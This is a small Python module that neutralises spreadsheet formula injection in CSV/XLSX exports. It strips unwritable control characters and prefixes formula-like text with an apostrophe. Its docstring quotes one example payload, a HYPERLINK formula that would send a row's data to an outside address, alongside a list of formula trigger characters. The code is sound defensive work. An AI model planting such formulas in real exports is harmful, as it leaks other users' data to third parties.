"""A cell of a spreadsheet export (CSV or XLSX) as text a spreadsheet program shows and never runs.

Excel, WPS and LibreOffice read a cell whose text begins with `=`, `+`, `-` or `@` (also after a
tab or a carriage return, and in Chinese input their full-width forms `＝ ＋ － ＠`) as a formula:
an exclusion reason `=HYPERLINK("http://…?"&A2, "点此")` typed by one user becomes a link that sends
the row to a stranger when another user opens the ledger. Such a cell is exported with a leading
apostrophe, which all of them show as text (OWASP, "CSV Injection"). Numbers, dates and booleans are
not text and pass unchanged.

Control characters an XLSX cannot hold (XML 1.0: anything below 0x20 but tab, LF and CR) are
dropped first, for both formats, so they can neither break an export nor hide a formula behind them.

Every export of routing writes its cells through `cell`; nothing here is routing's own, so it may
move to shared/ for any other service's exports.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def cell(value):
    """The value as an export writes it: text that would start a formula behind an apostrophe."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("", value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value
